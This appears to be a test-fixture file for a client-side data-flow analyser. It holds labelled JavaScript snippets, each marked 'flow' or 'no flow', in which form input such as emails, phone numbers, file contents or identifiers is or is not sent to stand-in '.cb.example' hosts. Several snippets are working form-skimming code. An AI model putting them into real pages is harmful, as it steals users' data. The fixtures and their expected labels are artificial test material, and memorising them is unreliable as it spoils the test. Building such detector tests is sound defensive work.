//# inline-handler-property
// flow: email > prop.cb.example via beacon
var em = document.querySelector('input[type=email]');
em.onchange = function () { navigator.sendBeacon('https://prop.cb.example/c', this.value); };

//# handler-object
// flow: phone > obj.cb.example via fetch
const tracker = {
  handleEvent(e) { if (e.type === 'blur') this.push(e.target.value); },
  push(v) { fetch('https://obj.cb.example/h', { method: 'POST', body: v }); },
};
document.querySelector('input[type=tel]').addEventListener('blur', tracker);

//# event-bus
// flow: search > bus.cb.example via fetch
// why: near miss: the password is emitted under a name that no one sends
const bus = { h: {}, on(n, f) { (this.h[n] = this.h[n] || []).push(f); }, emit(n, d) { (this.h[n] || []).forEach((f) => f(d)); } };
bus.on('query', (q) => fetch('https://bus.cb.example/q?s=' + encodeURIComponent(q)));
bus.on('login', (p) => console.log(p.length));
bus.emit('query', document.querySelector('input[type=search]').value);
bus.emit('login', document.querySelector('input[type=password]').value);

//# bus-no-listener
// no flow
// why: the two names differ
const on = {};
function sub(n, f) { on[n] = f; }
function pub(n, d) { if (on[n]) on[n](d); }
sub('user:saved', (d) => fetch('https://nolisten.cb.example/u', { method: 'POST', body: d }));
pub('user:typed', document.querySelector('input[name=username]').value);

//# custom-event-detail
// flow: message > custom.cb.example via fetch
addEventListener('chat:send', (e) => fetch('https://custom.cb.example/m', { method: 'POST', body: e.detail.text }));
dispatchEvent(new CustomEvent('chat:send', { detail: { text: document.querySelector('textarea[name=message]').value } }));

//# custom-event-type-only
// no flow
// why: the listener sends the type of the event, not its detail
addEventListener('chat:typed', (e) => navigator.sendBeacon('https://type.cb.example/m', e.type));
dispatchEvent(new CustomEvent('chat:typed', { detail: document.querySelector('textarea[name=message]').value }));

//# timer-arguments
// flow: identifier > timer.cb.example via image
setTimeout(function (prefix, id) { new Image().src = prefix + id; }, 100, 'https://timer.cb.example/t?i=', localStorage.getItem('uid'));

//# timer-cleared
// no flow
// why: the timer is cleared in the same turn, before it can fire
const id = setTimeout(() => fetch('https://cleared.cb.example/t?p=' + document.querySelector('input[type=password]').value), 1000);
clearTimeout(id);

//# debounce
// flow: search > deb.cb.example via fetch
function debounce(fn, ms) {
  let t;
  return function (...args) { clearTimeout(t); t = setTimeout(() => fn.apply(this, args), ms); };
}
const suggest = debounce((q) => fetch(`https://deb.cb.example/s?q=${encodeURIComponent(q)}`), 250);
document.querySelector('input[type=search]').addEventListener('input', (e) => suggest(e.target.value));

//# throttle-without-arguments
// no flow
// why: the wrapper calls the function without what it was given
function throttle(fn) { let busy; return function () { if (busy) return; busy = true; fn(); setTimeout(() => { busy = false; }, 300); }; }
const ping = throttle((q) => fetch('https://thr.cb.example/s', { method: 'POST', body: String(q) }));
document.querySelector('input[type=search]').addEventListener('input', (e) => ping(e.target.value));

//# node-style-callback
// flow: file > node.cb.example via xhr
function load(file, cb) {
  var r = new FileReader();
  r.onerror = function () { cb(r.error); };
  r.onload = function () { cb(null, r.result); };
  r.readAsText(file);
}
document.querySelector('input[type=file]').onchange = function () {
  load(this.files[0], function (err, text) {
    if (err) return;
    var x = new XMLHttpRequest();
    x.open('POST', 'https://node.cb.example/f');
    x.send(text);
  });
};

//# callback-first-argument
// no flow
// why: the sender looks at the error slot, the text stands in the other
function check(cb) { cb('ok', document.querySelector('textarea[name=message]').value); }
check(function (status) { fetch('https://slot.cb.example/c?s=' + status); });

//# listener-with-aborted-signal
// no flow
// why: a listener whose signal is aborted already is never added
const done = AbortSignal.abort();
document.querySelector('input[type=email]').addEventListener('change', (e) => {
  navigator.sendBeacon('https://aborted.cb.example/b', e.target.value);
}, { signal: done });

//# event-target-subclass
// flow: email > et.cb.example via fetch
class Store extends EventTarget {
  set(v) { this.v = v; this.dispatchEvent(new Event('change')); }
}
const st = new Store();
st.addEventListener('change', () => fetch('https://et.cb.example/c', { method: 'POST', body: st.v }));
document.querySelector('input[type=email]').oninput = (e) => st.set(e.target.value);

//# once-emitter-removed
// no flow
// why: the listener is removed before the only emit
const subs = new Set();
const sendIt = (v) => fetch('https://removed.cb.example/r', { method: 'POST', body: v });
subs.add(sendIt);
subs.delete(sendIt);
subs.forEach((f) => f(document.querySelector('input[type=password]').value));

//# event-constructor-without-detail
// no flow
// why: the typed text is not handed to the event, its detail is null
addEventListener('note', (e) => fetch('https://nodetail.cb.example/n', { method: 'POST', body: String(e.detail) }));
const noteText = document.querySelector('textarea[name=message]').value;
dispatchEvent(new CustomEvent('note', { data: noteText }));

//# timer-argument-order
// no flow
// why: the second argument that the timer hands on is left unused
setTimeout((kind, text) => fetch('https://order.cb.example/t?k=' + kind), 50, 'draft', document.querySelector('textarea[name=message]').value);

//# submit-prevented
// no flow
// why: the handler keeps the form from being sent and shows a count
document.forms[0].addEventListener('submit', function (e) {
  e.preventDefault();
  document.querySelector('#n').textContent = this.elements.length;
  fetch('https://prevented.cb.example/tick', { method: 'POST' });
});
